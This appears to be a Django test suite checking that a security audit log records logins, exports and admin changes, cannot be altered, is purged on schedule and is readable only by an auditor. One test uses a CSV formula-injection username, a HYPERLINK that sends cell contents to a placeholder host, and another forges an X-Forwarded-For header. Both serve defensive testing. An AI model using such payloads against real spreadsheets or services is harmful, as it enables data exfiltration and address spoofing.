"""The security audit log: every kind of event with who, when and from where; append-only in the app, the admin and
the database; purged only after its retention; read and exported by the security auditor (安全审计员) alone."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zoneinfo

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.db import DatabaseError, connection, transaction
from django.test import Client

from processes.models import Evidence, Plan, Role, Unit, User
from security.models import AuditEvent, AuditEventKind, AuditLogImmutable, SecuritySettings
from security.services import audit_purge, audit_record

from ..factories import PASSWORD, UserFactory
from ..lifecycle_helpers import pdf, songyuan_item

pytestmark = pytest.mark.django_db

AUDITORS = "安全审计员"
SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")


def auditor() -> User:
    person = UserFactory(username="the_auditor", unit=None)
    person.groups.add(Group.objects.get(name=AUDITORS))
    return person


def browser(user: User, address: str = "127.0.0.1") -> Client:
    client = Client(REMOTE_ADDR=address)
    client.force_login(user)
    return client


def test_sign_in_failure_and_sign_out_are_recorded_with_the_address() -> None:
    user = UserFactory(username="recorded")
    client = Client(REMOTE_ADDR="192.0.2.7")
    client.post("/accounts/login/", {"username": "recorded", "password": "not-it"})
    client.post("/accounts/login/", {"username": "nobody_here", "password": "not-it"})
    client.post("/accounts/login/", {"username": "recorded", "password": PASSWORD})
    client.post("/accounts/logout/")
    events = list(AuditEvent.objects.order_by("pk"))
    assert [(e.kind, e.username, e.user_id) for e in events] == [
        (AuditEventKind.LOGIN_FAILED, "recorded", None),
        (AuditEventKind.LOGIN_FAILED, "nobody_here", None),
        (AuditEventKind.LOGIN, "recorded", user.pk),
        (AuditEventKind.LOGOUT, "recorded", user.pk),
    ]
    assert {e.address for e in events} == {"192.0.2.7"}
    assert {e.path for e in events} == {"/accounts/login/", "/accounts/logout/"}
    assert all(e.at is not None for e in events)


def test_the_forwarded_address_is_believed_only_from_a_trusted_proxy(settings: object) -> None:
    UserFactory(username="behind_proxy")
    forged = Client(REMOTE_ADDR="198.51.100.9", HTTP_X_FORWARDED_FOR="10.1.1.1")
    forged.post("/accounts/login/", {"username": "behind_proxy", "password": "x"})
    settings.TRUSTED_PROXIES = ["10.0.0.0/8"]  # type: ignore[attr-defined]
    proxied = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="203.0.113.5, 198.51.100.1, 10.0.0.3")
    proxied.post("/accounts/login/", {"username": "behind_proxy", "password": "x"})
    assert list(AuditEvent.objects.order_by("pk").values_list("address", flat=True)) == [
        "198.51.100.9",  # the header of an untrusted client is ignored
        "198.51.100.1",  # the right-most address the trusted proxies did not add
    ]


def test_exports_and_evidence_downloads_are_recorded(plan_2023: Plan, reporter: User, supervisor: User) -> None:
    client = browser(supervisor, "192.0.2.20")
    assert client.get("/plans/JL-PRO/2023/ledger/export.csv?as_of=2023-09-30").status_code == 200
    export = AuditEvent.objects.get(kind=AuditEventKind.EXPORT)
    assert export.user == supervisor and export.detail == {"what": "ledger", "plan": "JL-PRO/2023", "format": "csv"}
    assert export.address == "192.0.2.20" and export.path == "/plans/JL-PRO/2023/ledger/export.csv?as_of=2023-09-30"

    item = songyuan_item(plan_2023)
    as_reporter = browser(reporter)
    as_reporter.post(
        f"/plans/items/{item.pk}/report/",
        {"assignment": item.pk, "state": item.state, "text": "见附件", "evidence": [pdf("会议纪要.pdf")]},
    )
    evidence = Evidence.objects.get()
    response = client.get(f"/plans/evidence/{evidence.pk}/")
    assert response.status_code == 200
    download = AuditEvent.objects.get(kind=AuditEventKind.EVIDENCE_DOWNLOAD)
    assert download.user == supervisor
    assert download.detail == {"evidence": evidence.pk, "item": item.pk, "file": "会议纪要.pdf"}


def test_the_assessment_export_is_recorded(plan_2023: Plan, supervisor: User) -> None:
    client = browser(supervisor)
    response = client.get("/plans/JL-PRO/2023/assessment/export.xlsx?start=2023-08-01&end=2023-09-30")
    assert response.status_code == 200
    export = AuditEvent.objects.get(kind=AuditEventKind.EXPORT)
    assert export.user == supervisor and export.detail == {
        "what": "assessment",
        "plan": "JL-PRO/2023",
        "format": "xlsx",
    }


def test_notice_and_bulletin_pdfs_are_recorded(plan_2023: Plan, units: dict[str, Unit], office_admin: User) -> None:
    from processes.models import Notice
    from processes.services.bulletins import bulletin_draft

    notice = Notice.objects.create(
        kind="warning_letter",
        year=2023,
        number=3,
        doc_no="测试〔2023〕3号",
        unit=units["220700"],
        issuer="推进组办公室",
        issued_on=dt.date(2023, 9, 1),
        response_due=dt.date(2023, 9, 8),
    )
    with time_machine.travel(dt.datetime(2023, 10, 9, 9, tzinfo=SHANGHAI), tick=False):
        bulletin = bulletin_draft(
            plan=plan_2023, by=office_admin, period_start=dt.date(2023, 8, 1), period_end=dt.date(2023, 9, 30)
        )
        client = browser(office_admin)
        assert client.get(f"/plans/notices/{notice.pk}/pdf/").status_code == 200
        assert client.get(f"/plans/bulletins/{bulletin.pk}/pdf/").status_code == 200
    events = AuditEvent.objects.filter(kind=AuditEventKind.EXPORT).order_by("pk")
    assert [event.detail["what"] for event in events] == ["notice", "bulletin"]
    expected = {"what": "notice", "id": notice.pk, "kind": "warning_letter", "doc_no": "测试〔2023〕3号"}
    assert events[0].detail == expected
    assert all(event.user == office_admin for event in events)


def test_changes_in_the_admin_are_recorded(units: dict[str, Unit]) -> None:
    office = UserFactory(username="the_office", is_staff=True, is_superuser=True)
    unit = units["220700"]
    client = browser(office, "192.0.2.30")
    response = client.get(f"/admin/processes/unit/{unit.pk}/change/")
    assert response.status_code == 200
    form = response.context["adminform"].form
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data.update({"short_name": "松原（改）", "aliases-TOTAL_FORMS": 0, "aliases-INITIAL_FORMS": 0})
    data = {k: v for k, v in data.items() if v is not False}
    assert client.post(f"/admin/processes/unit/{unit.pk}/change/", data).status_code == 302
    event = AuditEvent.objects.get(kind=AuditEventKind.ADMIN_CHANGE)
    assert event.user == office and event.address == "192.0.2.30"
    assert event.detail["action"] == "change" and event.detail["model"] == "processes.unit"
    assert event.detail["object_id"] == str(unit.pk)


def test_the_log_cannot_be_changed_or_deleted_through_the_app() -> None:
    event = audit_record(kind=AuditEventKind.LOGIN, username="someone")
    event.username = "someone_else"
    with pytest.raises(AuditLogImmutable):
        event.save()
    with pytest.raises(AuditLogImmutable):
        event.delete()
    with pytest.raises(AuditLogImmutable):
        AuditEvent.objects.filter(pk=event.pk).update(username="x")
    with pytest.raises(AuditLogImmutable):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get().username == "someone"


def test_the_database_refuses_to_change_the_log() -> None:
    event = audit_record(kind=AuditEventKind.LOGIN, username="someone")
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE security_auditevent SET username = 'forged' WHERE id = %s", [event.pk])
    if connection.vendor == "postgresql":
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute("DELETE FROM security_auditevent WHERE id = %s", [event.pk])
    assert AuditEvent.objects.get().username == "someone"


def test_the_admin_shows_the_log_read_only() -> None:
    office = UserFactory(username="the_office", is_staff=True, is_superuser=True)
    event = audit_record(kind=AuditEventKind.LOGIN, username="someone")
    client = browser(office)
    assert client.get("/admin/security/auditevent/").status_code == 200
    page = client.get(f"/admin/security/auditevent/{event.pk}/change/")
    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
    assert client.post(f"/admin/security/auditevent/{event.pk}/change/", {"username": "x"}).status_code == 403
    assert client.post(f"/admin/security/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.get("/admin/security/auditevent/add/").status_code == 403
    assert AuditEvent.objects.filter(pk=event.pk, username="someone").exists()


def test_the_nightly_purge_keeps_the_retention_period() -> None:
    now = dt.datetime(2026, 12, 2, 3, 20, tzinfo=SHANGHAI)
    for days in (181, 180, 179, 1):
        with time_machine.travel(now - dt.timedelta(days=days, minutes=1), tick=False):
            audit_record(kind=AuditEventKind.LOGIN, username=f"{days}_days_ago")
    assert audit_purge(now=now) == 2
    assert sorted(AuditEvent.objects.values_list("username", flat=True)) == ["179_days_ago", "1_days_ago"]
    row = SecuritySettings.current()
    row.audit_retention_days = 365
    row.save()
    assert audit_purge(now=now) == 0

    from security.tasks import purge_audit_events

    with time_machine.travel(now + dt.timedelta(days=365), tick=False):
        assert purge_audit_events() == 2


def test_the_purge_is_scheduled_nightly() -> None:
    from django_celery_beat.models import PeriodicTask

    task = PeriodicTask.objects.get(task="security.purge_audit_events")
    assert task.enabled and task.crontab is not None and task.crontab.hour == "3"


def test_the_auditor_reads_filters_and_exports_the_log() -> None:
    UserFactory(username="alice")
    with time_machine.travel(dt.datetime(2026, 5, 1, 10, tzinfo=SHANGHAI), tick=False):
        Client().post("/accounts/login/", {"username": "alice", "password": PASSWORD})
    with time_machine.travel(dt.datetime(2026, 5, 3, 10, tzinfo=SHANGHAI), tick=False):
        Client().post("/accounts/login/", {"username": '=HYPERLINK("http://x/?"&A1)', "password": "x"})
        Client().post("/accounts/login/", {"username": "alice", "password": "wrong"})
    client = browser(auditor())
    page = client.get("/security/audit/")
    assert page.status_code == 200
    assert page.content.decode().count('data-kind="') == 4  # three sign-ins and failures, and the auditor's own
    failed = client.get("/security/audit/?kind=login_failed&username=alice").content.decode()
    assert failed.count('data-kind="login_failed"') == 1 and 'data-kind="login"' not in failed
    dated = client.get("/security/audit/?start=2026-05-01&end=2026-05-01").content.decode()
    assert dated.count('data-kind="') == 1 and 'data-kind="login"' in dated

    export = client.get("/security/audit/export.csv?kind=login_failed")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    usernames = [row[2] for row in rows[1:]]
    assert usernames == ['\'=HYPERLINK("http://x/?"&A1)', "alice"]  # the formula is text
    assert AuditEvent.objects.filter(kind=AuditEventKind.EXPORT, detail__what="audit_log").count() == 1


def test_nobody_else_reads_the_log(plan_2023: Plan, reporter: User, supervisor: User) -> None:
    audit_record(kind=AuditEventKind.LOGIN, username="someone")
    for person in (reporter, supervisor, UserFactory(username="plain_staff", is_staff=True)):
        client = browser(person)
        assert client.get("/security/audit/").status_code == 403
        assert client.get("/security/audit/export.csv").status_code == 403
        assert 'data-testid="menu-audit"' not in client.get("/plans/").content.decode()
    assert Client().get("/security/audit/").status_code == 302  # to the login page


def test_the_auditor_sees_the_log_and_not_the_plans(plan_2023: Plan) -> None:
    client = browser(auditor())
    assert 'data-testid="menu-audit"' in client.get("/plans/").content.decode()
    ledger = client.get("/plans/JL-PRO/2023/ledger/")
    assert ledger.status_code in (200, 403, 404)
    assert 'data-item="' not in ledger.content.decode()
    item = songyuan_item(plan_2023)
    assert client.get(f"/plans/items/{item.pk}/").status_code == 404
    assert client.get("/admin/").status_code == 302  # not staff: the admin's login page
    assert User.objects.get(username="the_auditor").role == Role.REPORTER  # no role of the plans beyond the default
